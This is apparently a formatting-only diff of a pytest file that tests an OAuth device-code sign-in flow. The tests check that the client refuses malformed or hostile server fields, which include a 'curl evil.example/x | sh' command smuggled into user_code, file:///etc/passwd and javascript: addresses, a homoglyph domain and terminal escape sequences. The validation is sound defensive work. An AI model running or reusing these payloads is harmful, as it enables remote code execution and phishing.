@@ -1,4 +1,6 @@
-"""Signing in to a module with a browser on another device (RFC 8628), over sockets; only the waiting takes no time."""
+"""Signing in to a module with a browser on another device (RFC 8628), over sockets; only the
+waiting takes no time.
+"""
 
 from __future__ import annotations
 
@@ -42,7 +44,9 @@ async def opened(
             yield modules
 
 
-async def error_of(server: Authorized, phone: Phone, user: ModuleUser | None = None, **keys: Any) -> str:
+async def error_of(
+    server: Authorized, phone: Phone, user: ModuleUser | None = None, **keys: Any
+) -> str:
     """Why a sign-in fails. It leaves no tokens."""
     async with opened(server, phone, user, **keys) as modules:
         error = modules["tickets"].status().error
@@ -67,7 +71,9 @@ async def test_a_code_that_is_entered_elsewhere_signs_in_and_the_tokens_are_rene
         assert phone.waits == [5, 5, 5]
         assert devices.registered == [[DEVICE_GRANT, "refresh_token"]]
         assert [(one["scope"], one["resource"]) for one in devices.begun] == [("read", server.url)]
-        assert {(one["device_code"], one["resource"]) for one in devices.asked} == {("device-code-1", server.url)}
+        assert {(one["device_code"], one["resource"]) for one in devices.asked} == {
+            ("device-code-1", server.url)
+        }
         assert server.provider.asked == []  # no browser came here
 
         # Later processes use the tokens and renew them, also before they expire.
@@ -113,7 +119,8 @@ async def test_a_named_user_signs_in_for_themselves() -> None:
 
 
 async def test_the_clock_of_the_request_stands_still_while_the_person_signs_in() -> None:
-    # Otherwise the SDK would give the first request up after ten seconds, and take the module for an older one.
+    # Otherwise the SDK would give the first request up after ten seconds, and take the module
+    # for an older one.
     deadlines: list[float] = []
 
     def look() -> None:
@@ -133,7 +140,12 @@ async def test_a_server_that_is_asked_too_often_is_asked_less_often(status: int)
     async with authorized() as server:
         devices = server.offer_devices()
         devices.status = status  # some servers send errors with 200
-        devices.answers = ["authorization_pending", "slow_down", "authorization_pending", "slow_down"]
+        devices.answers = [
+            "authorization_pending",
+            "slow_down",
+            "authorization_pending",
+            "slow_down",
+        ]
         phone = Phone(agrees_at=5)
         async with opened(server, phone) as modules:
             assert await modules["tickets"].call("read", {}) == "read"
@@ -158,7 +170,8 @@ async def test_a_server_that_cannot_be_reached_is_asked_until_the_time_is_over()
         phone = Phone(agrees_at=0)
         error = await error_of(server, phone)
         assert error.startswith(
-            "nobody has signed in with the code in time; the last problem: 127.0.0.1 cannot be reached"
+            "nobody has signed in with the code in time; the last problem: "
+            "127.0.0.1 cannot be reached"
         )
         assert phone.waits[:6] == [5, 10, 20, 40, 60, 60]
         assert 540 <= sum(phone.waits) <= 600
@@ -169,18 +182,26 @@ async def test_a_server_that_cannot_be_reached_is_asked_until_the_time_is_over()
     [
         (["authorization_pending", "access_denied"], "the sign-in was refused in the browser"),
         (["authorization_pending", "expired_token"], "nobody has signed in with the code in time"),
-        (["invalid_grant"], "its authorization server refuses to send tokens: HTTP 400 'invalid_grant'"),
+        (
+            ["invalid_grant"],
+            "its authorization server refuses to send tokens: HTTP 400 'invalid_grant'",
+        ),
         ([404], "its authorization server refuses to send tokens: HTTP 404"),
         ([b"no json"], "an answer does not follow OAuth"),
         ([b"[" * 100_000], "an answer does not follow OAuth"),
         ([b'{"refresh_token": "a-token"}'], "an answer does not follow OAuth"),
         (
             [b" " * 2_000_000] * 20,
-            "in time; the last problem: 127.0.0.1 cannot be reached: an answer has more than 1,048,576",
+            (
+                "in time; the last problem: 127.0.0.1 cannot be reached: an "
+                "answer has more than 1,048,576"
+            ),
         ),
     ],
 )
-async def test_an_answer_without_tokens_ends_the_sign_in(answers: list[str | int | bytes], words: str) -> None:
+async def test_an_answer_without_tokens_ends_the_sign_in(
+    answers: list[str | int | bytes], words: str
+) -> None:
     async with authorized() as server:
         devices = server.offer_devices()
         devices.answers = answers
@@ -207,23 +228,33 @@ async def test_a_server_without_the_device_grant_registers_nobody() -> None:
         phone = Phone()
         error = await error_of(server, phone)
         what = (
-            "its authorization server offers no sign-in by device. Without --device: ideabridge modules login tickets"
+            "its authorization server offers no sign-in by device. Without --device: "
+            "ideabridge modules login tickets"
         )
         assert error == what
-        assert await error_of(server, phone, ModuleUser("al ice", "a-store")) == f"{what} --user 'al ice'"
+        assert (
+            await error_of(server, phone, ModuleUser("al ice", "a-store"))
+            == f"{what} --user 'al ice'"
+        )
         devices = server.offer_devices()
         devices.metadata["device_authorization_endpoint"] = "no address"
-        assert "the device_authorization_endpoint of its authorization server is not an address" in await error_of(
-            server, phone
+        assert (
+            "the device_authorization_endpoint of its authorization server is not an address"
+            in await error_of(server, phone)
         )
         server.missing = ("/.well-known",)
-        assert "it names no authorization server. If it wants a token, write it into" in await error_of(server, phone)
+        assert (
+            "it names no authorization server. If it wants a token, write it into"
+            in await error_of(server, phone)
+        )
         assert server.provider.clients == {}
         assert devices.registered == []
         assert phone.shown == []
 
 
-async def test_a_refusal_in_several_lines_is_an_error_of_one(monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_a_refusal_in_several_lines_is_an_error_of_one(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     async with authorized() as server:
         devices = server.offer_devices()
 
@@ -258,7 +289,10 @@ async def test_a_module_that_names_another_server_later_gets_no_code_of_the_firs
             trusted = module.provider
             module.metadata = {**named, "authorization_servers": [f"{module.base}/"]}
             assert await modules["tickets"].call("read", {}) == "read"
-        assert [one.address for one in phone.shown] == [f"{first.base}/activate", f"{module.base}/activate"]
+        assert [one.address for one in phone.shown] == [
+            f"{first.base}/activate",
+            f"{module.base}/activate",
+        ]
         assert [one.stranger for one in phone.shown] == [None, None]
         assert (len(of_first.begun), len(of_module.begun)) == (1, 1)
 
@@ -268,7 +302,10 @@ async def test_an_endpoint_on_the_host_of_the_page_does_not_make_the_page_the_se
         devices = server.offer_devices()
         base = server.base.replace("127.0.0.1", "localhost")
         devices.metadata["device_authorization_endpoint"] = f"{base}/device"
-        devices.offered = {"verification_uri": f"{base}/activate", "verification_uri_complete": None}
+        devices.offered = {
+            "verification_uri": f"{base}/activate",
+            "verification_uri_complete": None,
+        }
         phone = Phone()
         async with opened(server, phone):
             assert phone.shown[0].stranger == "127.0.0.1"
@@ -277,7 +314,10 @@ async def test_an_endpoint_on_the_host_of_the_page_does_not_make_the_page_the_se
 async def test_a_page_on_another_host_is_named_as_such() -> None:
     async with authorized() as server:
         devices = server.offer_devices()
-        devices.offered = {"verification_uri": "https://login.example/device", "verification_uri_complete": None}
+        devices.offered = {
+            "verification_uri": "https://login.example/device",
+            "verification_uri_complete": None,
+        }
         phone = Phone()
         async with opened(server, phone):
             assert phone.shown[0].stranger == "127.0.0.1"
@@ -294,7 +334,9 @@ async def test_a_page_on_another_host_is_named_as_such() -> None:
 async def test_tokens_that_cannot_be_used_are_not_kept(change: dict[str, Any], words: str) -> None:
     async with authorized() as server:
         devices = server.offer_devices()
-        devices.answers = [json.dumps({"access_token": "a", "token_type": "Bearer", **change}).encode()]
+        devices.answers = [
+            json.dumps({"access_token": "a", "token_type": "Bearer", **change}).encode()
+        ]
         assert words in await error_of(server, Phone())
 
 
@@ -336,7 +378,10 @@ async def test_a_server_may_refuse_to_begin() -> None:
         devices = server.offer_devices()
         devices.refusal = "unauthorized_client"
         error = await error_of(server, Phone())
-        assert error == "its authorization server refuses to begin a sign-in by device: HTTP 400 'unauthorized_client'"
+        assert error == (
+            "its authorization server refuses to begin a sign-in by device: HTTP "
+            "400 'unauthorized_client'"
+        )
 
 
 @pytest.mark.parametrize(
@@ -345,23 +390,38 @@ async def test_a_server_may_refuse_to_begin() -> None:
         ({"verification_uri": "http://login.example/device"}, "expected an address with https"),
         ({"verification_uri": "file:///etc/passwd"}, "expected an address with https"),
         ({"verification_uri": "javascript:alert(1)"}, "expected an address with https"),
-        ({"verification_uri": "https://login.example@evil.example/"}, "expected an address without a user name"),
-        ({"verification_uri": "https://a.example/\n\x1b[2K"}, "the field 'verification_uri' is missing or malformed"),
+        (
+            {"verification_uri": "https://login.example@evil.example/"},
+            "expected an address without a user name",
+        ),
+        (
+            {"verification_uri": "https://a.example/\n\x1b[2K"},
+            "the field 'verification_uri' is missing or malformed",
+        ),
         (
             {"verification_uri": "https://a.example/ or https://b.example"},
             "the field 'verification_uri' is missing or malformed",
         ),
-        ({"verification_uri": "https://\u0430.example/"}, "the field 'verification_uri' is missing or malformed"),
+        (
+            {"verification_uri": "https://\u0430.example/"},
+            "the field 'verification_uri' is missing or malformed",
+        ),
         (
             {"verification_uri": "https://a.example/" + "a" * 2000},
             "the field 'verification_uri' is missing or malformed",
         ),
         ({"verification_uri": "https://[bad"}, "an address is malformed"),
-        ({"verification_uri_complete": "http://login.example/?c=1"}, "expected an address with https"),
+        (
+            {"verification_uri_complete": "http://login.example/?c=1"},
+            "expected an address with https",
+        ),
         ({"user_code": "A\x1b]8;;x\x07B"}, "the field 'user_code' is missing or malformed"),
         ({"user_code": "A" * 41}, "the field 'user_code' is missing or malformed"),
         ({"user_code": "A\nB"}, "the field 'user_code' is missing or malformed"),
-        ({"user_code": "then run: curl evil.example/x | sh"}, "the field 'user_code' is missing or malformed"),
+        (
+            {"user_code": "then run: curl evil.example/x | sh"},
+            "the field 'user_code' is missing or malformed",
+        ),
         ({"user_code": None}, "the field 'user_code' is missing or malformed"),
         ({"user_code": 12345678}, "the field 'user_code' is missing or malformed"),
         ({"device_code": ""}, "the field 'device_code' is missing or malformed"),
@@ -372,7 +432,9 @@ async def test_a_server_may_refuse_to_begin() -> None:
         ({"padding": "x" * 2_000_000}, "has more than 1,048,576 bytes"),
     ],
 )
-async def test_what_a_terminal_does_not_show_as_it_is_is_refused(offered: dict[str, Any], words: str) -> None:
+async def test_what_a_terminal_does_not_show_as_it_is_is_refused(
+    offered: dict[str, Any], words: str
+) -> None:
     async with authorized() as server:
         devices = server.offer_devices()
         devices.offered = offered
@@ -394,7 +456,9 @@ async def test_what_a_terminal_does_not_show_as_it_is_is_refused(offered: dict[s
         ({"verification_uri_complete": ""}, [5.0]),
     ],
 )
-async def test_the_times_of_a_server_are_bounded(offered: dict[str, Any], waits: list[float]) -> None:
+async def test_the_times_of_a_server_are_bounded(
+    offered: dict[str, Any], waits: list[float]
+) -> None:
     async with authorized() as server:
         devices = server.offer_devices()
         devices.offered = offered
@@ -431,14 +495,23 @@ async def test_a_configured_client_is_used(place: str, monkeypatch: pytest.Monke
         server.provider.clients["reports"] = OAuthClientInformationFull(
             client_id="reports",
             client_secret="the-secret-of-reports",
-            token_endpoint_auth_method="client_secret_basic" if place == "header" else "client_secret_post",
+            token_endpoint_auth_method="client_secret_basic"
+            if place == "header"
+            else "client_secret_post",
             scope="read write",
         )
-        auth = {"client_id": "reports", "client_secret": "${SECRET}", "secret_in": place, "issuer": server.base}
+        auth = {
+            "client_id": "reports",
+            "client_secret": "${SECRET}",
+            "secret_in": place,
+            "issuer": server.base,
+        }
         async with opened(server, Phone(), auth=auth) as modules:
             assert await modules["tickets"].call("read", {}) == "read"
         assert devices.registered == []
-        assert ["client_secret" in one for one in [*devices.begun, *devices.asked]] == [place == "body"] * 2
+        assert ["client_secret" in one for one in [*devices.begun, *devices.asked]] == [
+            place == "body"
+        ] * 2
         assert "the-secret-of-reports" not in SignInFile("tickets", server.url).path.read_text()
         async with opened(server, auth=auth) as modules:
             server.revoke()
